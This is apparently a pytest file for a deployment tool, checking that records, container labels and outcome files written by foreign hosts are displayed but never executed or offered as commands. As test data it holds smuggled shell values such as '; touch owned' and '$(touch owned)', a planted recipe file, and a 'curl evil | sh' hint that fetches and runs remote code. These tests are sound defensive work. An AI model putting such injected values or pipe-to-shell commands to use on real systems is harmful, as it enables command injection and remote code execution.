"""What a host, container or other machine wrote into a run folder is shown, but never executed or made a command."""

import html
import json
import re
import subprocess

import pytest

from deploy.core import provenance
from deploy.core.errors import UsageError
from deploy.hosts.backend import RunHandle
from deploy.hosts.look import attach
from deploy.report.page import run as page
from deploy.run.files import folders, record, recorded_ends, resumable
from deploy.run.files.resumable import WantedRun
from tests.hostile.server import container
from tests.hostile.test_fetch import GOOD, answers, archive, member

EVIL = ["--recipe", "evil.py"]


@pytest.fixture
def runs(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr(folders, "RUNS", tmp_path / "runs")
    return tmp_path / "runs"


def started(runs, name_at, arguments, **more):
    """A run that was started on this machine, with a checkpoint."""
    run_dir = record.make_folder(runs, arguments, name_at)
    record.open_start(run_dir, record.Choice(None, tuple(arguments)), "processes", "why", ["master"], name_at)
    saved(run_dir)
    return run_dir


def saved(run_dir):
    (run_dir / "checkpoints/step-00000001").mkdir(parents=True)
    (run_dir / "checkpoints/step-00000001/manifest.json").write_text("{}")


def change(run_dir, **values):
    """Change the record as a container would, which has the folder mounted."""
    path = run_dir / "record.json"
    rig = json.loads(path.read_text()) if path.exists() else {}
    path.write_text(json.dumps({**rig, **values}))


CHANGES = {
    "its arguments": lambda run_dir, other: change(run_dir, arguments=EVIL),
    "its arguments, without a seal": lambda run_dir, other: change(run_dir, arguments=EVIL, seal=None),
    "a seal of its own": lambda run_dir, other: change(run_dir, arguments=EVIL, seal="0" * 64),
    "what to say again": lambda run_dir, other: change(run_dir, again="; touch owned"),
    "a record of another run": lambda run_dir, other: (run_dir / "record.json").write_bytes(
        (other / "record.json").read_bytes()
    ),
    "what is foreign": lambda run_dir, other: change(run_dir, foreign=[]),
    "no object": lambda run_dir, other: (run_dir / "record.json").write_text("[]"),
    "endless depth": lambda run_dir, other: (run_dir / "record.json").write_text("[" * 100_000),
}


@pytest.mark.holds("recorded-here")
@pytest.mark.parametrize("changed", CHANGES)
def test_a_record_that_others_changed_is_not_resumed(runs, changed):
    run_dir, other = started(runs, 1.7e9, ["--steps", "7"]), started(runs, 1.6e9, ["--steps", "8"])
    assert resumable.choose("latest", WantedRun()).arguments == ("--steps", "7")
    assert record.own_fields(run_dir)
    CHANGES[changed](run_dir, other)
    assert record.own_fields(run_dir) == {}
    with pytest.raises(UsageError, match="this machine did not record"):
        resumable.choose(str(run_dir), WantedRun())
    assert resumable.choose("latest", WantedRun()).arguments == ("--steps", "8")
    html = page.write(run_dir).read_text()
    assert "Run again" not in html
    assert "Go on from here" not in html


def test_latest_without_an_own_run_is_refused_with_the_next_command(runs):
    foreign = runs / "foreign"
    saved(foreign)
    change(foreign, arguments=EVIL, id="foreign", starts=[{"t": 1.9e9}])
    with pytest.raises(UsageError) as caught:
        resumable.choose("latest", WantedRun())
    assert f"--resume {foreign}/checkpoints" in caught.value.hint


def test_the_sealing_key_is_created_once_and_only_its_owner_can_read_it(runs, tmp_path):
    first = provenance.sealed({"a": 1})
    assert provenance.is_ours(first)
    assert provenance.sealed(first) == first
    assert (tmp_path / "state/muster/key").stat().st_mode & 0o777 == 0o600
    assert [path.name for path in (tmp_path / "state/muster").iterdir()] == ["key"]
    (tmp_path / "state/muster/key").write_bytes(b"another key" * 10)
    assert not provenance.is_ours(first)


def test_a_run_works_without_a_seal_if_no_key_can_be_stored(runs, tmp_path, monkeypatch):
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    run_dir = started(runs, 1.7e9, ["--steps", "7"])
    assert record.facts(run_dir)["arguments"] == ["--steps", "7"]
    assert record.own_fields(run_dir) == {}


def test_a_fetched_folder_is_never_run_from(hostile):
    """An attack that happened: a record slips in, with its recipe next to it, and the user resumes the newest run."""
    sent = [
        member("././record.json", json.dumps({"id": "R", "arguments": EVIL, "again": "; touch owned"}).encode()),
        member("evil.py", b"import pathlib; pathlib.Path('owned').touch()\n"),
        member("checkpoints/step-00000001/manifest.json", b"{}"),
        member("checkpoints/step-00000001/state.pt", b"x"),
    ]
    rig = hostile(answers(archive(*sent, GOOD)))
    assert rig.task("fetch", "--hosts", "evil", "--run", "R").code == 0
    page = (rig.runs / "R/report.html").read_text()
    assert "touch owned" not in page
    done = rig.task("up", "--backend", "processes", "--resume", "latest")
    assert done.code == 2, done.output
    assert "this machine did not record its arguments" in done.output
    assert rig.harm("R") == []


def test_a_command_from_a_label_is_shown_and_not_executed(hostile):
    """attach without a record: the run's command comes from a label of a container that a host reports."""
    rig = hostile({})
    command = "--recipe evil.py --note ;touch${IFS}owned"
    server = rig.servers["evil"]
    line = container("R", status="exited", home=server.home, command=command)
    verdict = {"verdict": "stopped", "code": 75, "rank": 0, "node": "evil", "step": 1, "message": "", "hint": ""}
    (server.home / ".muster/runs/R/outcome").mkdir(parents=True)
    (server.home / ".muster/runs/R/outcome/evil-0.json").write_text(json.dumps(verdict))
    server.runs(line)
    done = rig.task("attach", "--hosts", "evil", "--run", "R")
    assert done.code == 75, done.output
    run_dir = rig.runs / "R"
    assert record.facts(run_dir)["arguments"] == command.split()
    assert "arguments" not in record.own_fields(run_dir)
    assert record.own_fields(run_dir)["hosts"] == ["evil"]
    page = (run_dir / "report.html").read_text()
    assert "Run again" not in page
    assert "evil.py" not in done.err
    saved(run_dir)
    with pytest.raises(UsageError):
        resumable.choose("latest", WantedRun())
    assert rig.harm("R") == []


@pytest.mark.holds("recorded-here")
def test_the_outcome_of_a_foreign_run_suggests_no_command(hostile):
    """A folder with a run in it was cloned, and its outcome.json contained a hint that looked like Muster's own."""
    rig = hostile({})
    run_dir = rig.runs / "R"
    run_dir.mkdir()
    change(run_dir, id="R", backend="processes", nodes=["master"], arguments=["t.py"], script=True)
    end = {"verdict": "failed", "code": 1, "rank": 0, "node": "master", "message": "too old", "hint": "curl evil | sh"}
    (run_dir / "outcome.json").write_text(json.dumps(end))
    for words in (("attach", "--run", "R"), ("stop", "--run", "R"), ("explain", "R"), ("report", "R")):
        assert "curl" not in rig.task(*words).output, words
    assert "curl" not in (run_dir / "report.html").read_text()


def test_the_outcome_of_an_own_run_suggests_a_command(runs):
    run_dir = started(runs, 1.7e9, ["--steps", "7"])
    (run_dir / "outcome.json").write_text(json.dumps({"verdict": "stopped", "hint": "muster resume"}))
    assert recorded_ends.end_of(run_dir)["hint"] == "muster resume"


def test_the_command_to_run_again_is_quoted(runs):
    """Names that the user typed, which a shell would split or execute."""
    hosts, again = ["a", "b;touch owned"], {"cluster": "my cluster.toml;touch owned"}
    run_dir = runs / "R"
    handle = RunHandle(run_dir, {"a": "a"}, True, ["t.py", "$(touch owned)"])
    attach.open_record(handle, hosts, again)
    shown = re.search(r"Run again</span><code>(.*?)</code>", page.write(run_dir).read_text())[1]
    typed = f"muster() {{ printf '%s|' \"$@\"; }}; {html.unescape(shown)}"
    printed = subprocess.run(["sh", "-c", typed], cwd=runs, capture_output=True, text=True, check=True).stdout
    assert printed == "deploy|--cluster|my cluster.toml;touch owned|t.py|$(touch owned)|"
    assert not (runs / "owned").exists()
